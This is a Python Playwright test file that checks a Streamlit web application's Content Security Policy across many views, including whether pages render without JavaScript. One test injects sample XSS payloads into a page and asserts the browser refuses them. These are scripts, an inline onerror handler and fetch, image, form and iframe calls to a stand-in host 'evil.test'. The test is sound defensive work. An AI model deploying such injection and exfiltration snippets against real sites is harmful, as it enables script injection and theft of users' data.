"""The server as a browser meets it: the policy holds and hurts nobody, the page speaks before any script, all is named.

The other tests in this folder run on the same server, so that what they do happens under its policy as well.
"""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Browser, Page, expect

from components import frame, i18n
from serving import assets, parts
from tools import live

pytestmark = pytest.mark.browser

VIEWS = [
    "/",
    "/regions",
    "/regions?view=relief",
    "/regions?view=compare&regions=MA-05,MA-06",
    "/regions?view=routes",
    "/profiles",
    "/profiles?question=sex",
    "/trends",
    "/comparison",
    "/assessment",
    "/assessment?view=flow",
    "/assessment?view=unanswered",
    "/assessment?view=report",
    "/recommendations",
    "/recommendations?view=plan",
    "/mechanisms",
    "/mechanisms?view=coverage",
    "/mechanisms?view=timeline",
    "/mechanisms?view=actors",
    "/agreements",
    "/agreements?view=map",
    "/finder",
    "/stories",
    "/stories?story=unknown_regions&chapter=2",
    "/stories?story=unknown_regions&chapter=3",
    "/stories?story=two_ways&chapter=4",
    "/stories?story=two_ways&chapter=5",
    "/figures",
    "/figures?view=all",
    "/open_data",
    "/training",
    "/training?view=course",
    "/programme",
    "/programme?view=activities",
    "/programme?view=activities&activity=PA05",
    "/programme?view=related",
    "/sources",
    "/sources?source=SURE_CMP",
    "/sources?view=method",
    "/sources?view=unknown",
    "/sources?view=version",
    "/glossary",
    "/present",
    "/present?view=stage&talk=main&step=4",
    "/training?view=lessons&lesson=comparison",
    "/training?view=lessons&lesson=data&quiz=7&item=3",
]
# Scripts that nobody calls by name in a page are reported as blocked by this listener, before the page's own scripts.
LISTEN = """addEventListener("securitypolicyviolation", event =>
  console.error(`refused: ${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`), true)"""


@dataclass
class Visit:
    """A page, and what it asked for."""

    page: Page
    asked: list[str] = field(default_factory=list)
    refused: list[str] = field(default_factory=list)
    failed: list[str] = field(default_factory=list)


@contextmanager
def visiting(browser: Browser, server: live.Server, path: str) -> Iterator[Visit]:
    """Open a page and wait until nothing comes any more."""
    context = browser.new_context(locale="en-US", reduced_motion="reduce")
    visit = Visit(context.new_page())
    visit.page.add_init_script(LISTEN)
    visit.page.on("request", lambda request: visit.asked.append(request.url.removeprefix(server.address)))
    visit.page.on("console", lambda said: visit.refused.append(said.text) if said.type == "error" else None)
    visit.page.on("response", lambda answer: visit.failed.append(answer.url) if answer.status >= 400 else None)
    visit.page.goto(server.address + path)
    live.settled(visit.page)
    visit.page.wait_for_load_state("networkidle")
    yield visit
    context.close()


def components() -> dict[str, str]:
    """Return which file holds which component of Streamlit."""
    manifest = json.loads((assets.streamlit_folder() / "manifest.json").read_text(encoding="utf-8"))
    return {
        f"/{entry['file']}": source.rsplit("/", 1)[-1].removesuffix(".tsx")
        for source, entry in manifest.items()
        if source.startswith("../lib/src/components/") and source.endswith(".tsx")
    }


@pytest.mark.parametrize("path", VIEWS)
def test_a_page_works_under_the_policy_and_names_what_it_loads(
    browser: Browser, server: live.Server, path: str
) -> None:
    """Nothing is refused, nothing is missing; each component that comes was named, and no heavy one in vain."""
    with visiting(browser, server, path) as visit:
        assert not visit.refused
        assert not visit.failed
        names = components()
        came = {names[address] for address in visit.asked if address in names}
        html = visit.page.context.request.get(server.address + path).text()
        named = {name for address, name in names.items() if f'href="{address}"' in html}
        assert came <= named, f"not named by the shell: {came - named}"
        heavy = {"PlotlyChart", "DeckGlJsonChart"}
        in_use = visit.page.evaluate(
            """[[".js-plotly-plot", "PlotlyChart"], ["[data-testid=stDeckGlJsonChart]", "DeckGlJsonChart"]]
            .filter(([mark]) => document.querySelector(mark)).map(([_mark, name]) => name)"""
        )
        assert named & heavy == set(in_use)


def test_all_pages_of_the_menu_are_visited() -> None:
    """A page that is added is opened under the policy as well, but for the stage, which has its own tests."""
    i18n.set_language("en")
    visited = {path.strip("/").partition("?")[0] or "overview" for path in VIEWS}
    assert {door.code for door in frame.doors()} - {"present"} <= visited
    assert set(parts.NEEDS) <= visited


def test_no_request_of_a_page_below_the_root_fails(browser: Browser, server: live.Server) -> None:
    """Streamlit looks for its server below the page's own path first, unless it is told where the server is."""
    with visiting(browser, server, "/regions") as visit:
        assert not [address for address in visit.asked if address.startswith("/regions/")]


@pytest.mark.parametrize(
    ("name", "inject"),
    [
        (
            "a script from another host",
            """() => { const script = document.createElement("script")
            script.src = "https://evil.test/steal.js"; document.head.append(script) }""",
        ),
        (
            "a script in the page",
            """() => { const script = document.createElement("script")
            script.textContent = "window.stolen = true"; document.head.append(script) }""",
        ),
        (
            "a handler in a tag",
            """() => { const picture = document.createElement("div")
            picture.innerHTML = '<img src="/none.png" onerror="window.stolen = true">'
            document.body.append(picture) }""",
        ),
        (
            "a script as an address",
            """() => { const script = document.createElement("script")
            script.src = "data:text/javascript,window.stolen = true"; document.head.append(script) }""",
        ),
        (
            "text taken for script",
            # Later, since what the test itself runs is exempt.
            """() => { setTimeout("window.stolen = true") }""",
        ),
        ("a message to another host", """() => { fetch("https://evil.test/?stolen").catch(() => {}) }"""),
        (
            "a picture that carries something away",
            """() => { new Image().src = "https://evil.test/pixel.gif" }""",
        ),
        (
            "a form that is sent elsewhere",
            """() => { const form = document.createElement("form")
            form.action = "https://evil.test/"; document.body.append(form); form.submit() }""",
        ),
        (
            "a frame around another site",
            """() => { const frame = document.createElement("iframe")
            frame.src = "https://evil.test/"; document.body.append(frame) }""",
        ),
    ],
)
def test_what_is_injected_does_not_run(browser: Browser, server: live.Server, name: str, inject: str) -> None:
    """Were somebody to bring markup or script into a page, the browser would refuse it and say so."""
    with visiting(browser, server, "/finder") as visit:
        left: list[str] = []
        visit.page.on("request", lambda request: left.append(request.url) if "evil.test" in request.url else None)
        visit.page.on("requestfailed", lambda request: left.remove(request.url) if request.url in left else None)
        visit.page.evaluate(inject)
        for _turn in range(50):
            if any("refused:" in said for said in visit.refused):
                break
            visit.page.wait_for_timeout(100)
        assert [said for said in visit.refused if "refused:" in said], f"{name} was not refused"
        assert visit.page.evaluate("window.stolen === undefined")
        assert not left


@pytest.mark.parametrize("language", i18n.LANGUAGES)
def test_the_page_speaks_before_any_script(browser: Browser, server: live.Server, language: str) -> None:
    """Without script: language, direction, title and words; with it, they stay what they were."""
    without = browser.new_context(java_script_enabled=False)
    page = without.new_page()
    page.goto(f"{server.address}/regions?lang={language}")
    expect(page.locator("html")).to_have_attribute("lang", language)
    expect(page.locator("html")).to_have_attribute("dir", "rtl" if language == "ar" else "ltr")
    title = page.title()
    expect(page.locator("h1")).to_have_text(title)
    assert page.locator("noscript a").count() > 10
    without.close()
    with visiting(browser, server, f"/regions?lang={language}") as visit:
        assert visit.page.title() == title
        expect(visit.page.locator("html")).to_have_attribute("lang", language)
